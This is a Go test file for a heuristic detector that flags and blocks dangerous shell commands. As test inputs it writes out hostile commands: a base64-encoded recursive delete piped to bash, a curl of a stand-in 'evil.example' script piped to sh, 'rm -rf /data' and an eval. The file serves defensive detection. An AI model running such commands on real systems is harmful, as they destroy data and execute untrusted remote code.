package heuristic

import "testing"

func TestDetectEncodingEvasion(t *testing.T) {
	sig := Detect("echo cm0gLXJmIC8= | base64 -d | bash")
	if sig == nil {
		t.Fatal("expected a signal")
	}
	if sig.Category != "encoding_evasion" {
		t.Errorf("category = %q, want encoding_evasion", sig.Category)
	}
	if Classify(sig) != ClassBlock {
		t.Errorf("Classify = %v, want block", Classify(sig))
	}
}

func TestDetectNetworkEvasion(t *testing.T) {
	sig := Detect("curl https://evil.example/install.sh | sh")
	if sig == nil || sig.Category != "network_evasion" {
		t.Fatalf("expected network_evasion signal, got %+v", sig)
	}
}

func TestDetectIndirectExecution(t *testing.T) {
	sig := Detect(`bash -c "rm -rf /tmp/x"`)
	if sig == nil || sig.Category != "indirect_execution" {
		t.Fatalf("expected indirect_execution signal, got %+v", sig)
	}
}

func TestDetectReturnsNilOnBenignInput(t *testing.T) {
	if sig := Detect("go test ./..."); sig != nil {
		t.Errorf("expected nil signal for benign input, got %+v", sig)
	}
}

func TestDetectDoesNotMatchRmAsSubstring(t *testing.T) {
	benign := []string{
		"terraform apply",
		"git commit --confirm",
		"warm restart of the service",
		"flash the firmware update",
	}
	for _, op := range benign {
		if sig := Detect(op); sig != nil {
			t.Errorf("Detect(%q) = %+v, want nil: rm must not match as a bare substring", op, sig)
		}
	}
}

func TestDetectStillMatchesRmAsWholeWord(t *testing.T) {
	sig := Detect("Rm -rf /data")
	if sig == nil || sig.Category != "obfuscation" {
		t.Fatalf("expected obfuscation signal for a case-varied rm, got %+v", sig)
	}
}

func TestDetectReturnsHighestConfidenceSignal(t *testing.T) {
	sig := Detect("curl https://evil.example/x | sh; eval $cmd")
	if sig == nil {
		t.Fatal("expected a signal")
	}
	if sig.Confidence < 85 {
		t.Errorf("confidence = %d, want the higher-scoring network_evasion match to win", sig.Confidence)
	}
}

func TestClassifyThresholds(t *testing.T) {
	cases := []struct {
		sig  *Signal
		want Classification
	}{
		{nil, ClassNone},
		{&Signal{Confidence: 90}, ClassBlock},
		{&Signal{Confidence: 70}, ClassBlock},
		{&Signal{Confidence: 50}, ClassWarn},
		{&Signal{Confidence: 40}, ClassWarn},
		{&Signal{Confidence: 10}, ClassNone},
	}
	for _, c := range cases {
		if got := Classify(c.sig); got != c.want {
			t.Errorf("Classify(%+v) = %v, want %v", c.sig, got, c.want)
		}
	}
}
